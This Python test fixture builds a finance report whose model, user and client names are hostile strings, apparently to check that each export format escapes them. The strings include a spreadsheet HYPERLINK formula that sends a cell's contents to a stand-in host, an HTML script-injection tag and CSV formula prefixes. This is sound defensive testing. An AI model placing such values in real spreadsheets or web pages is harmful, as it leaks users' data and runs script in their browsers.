"""A report whose texts try everything, written by each format."""

from collections.abc import Callable, Iterator
from pathlib import Path

from shared.finance.model import ReportKind
from shared.finance.report import Report
from tests.shared.finance.books import busy_month, entry
from tests.shared.finance.made import report_of

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
MARKUP = '</td><script>alert("1")</script>'
HOSTILE = (
    FORMULA,
    MARKUP,
    "@SUM(1+1)",
    "+1",
    "-1",
    "\t=1",
    "a,b\"c'",
    "line\nbreak",
    "http://evil.example",
    "İ\u202e😀",
)


async def hostile_report(kind: ReportKind = ReportKind.CHARGEBACK) -> Report:
    """Names of models come from callers: they can be any text."""
    entries = [
        entry(f"h{n}", 10**9 + n, model=text, cost_center=text, user=text, client=text)
        for n, text in enumerate(HOSTILE)
    ]
    return await report_of(kind, [*busy_month(), *entries])


def written(render: Callable[[Report, Path], Iterator[Path]], report: Report, directory: Path) -> dict[str, Path]:
    return {path.name: path for path in render(report, directory)}
